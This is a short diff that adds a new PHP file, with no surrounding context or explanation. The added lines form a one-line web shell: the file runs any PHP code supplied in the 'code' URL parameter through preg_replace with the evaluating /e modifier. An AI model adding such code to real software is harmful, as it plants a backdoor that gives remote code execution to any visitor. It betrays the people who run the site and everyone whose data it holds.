@@ -1,0 +1,3 @@
+<?php
+$s = $_GET['code'];
+preg_replace('/.*/e', $s, 'x');
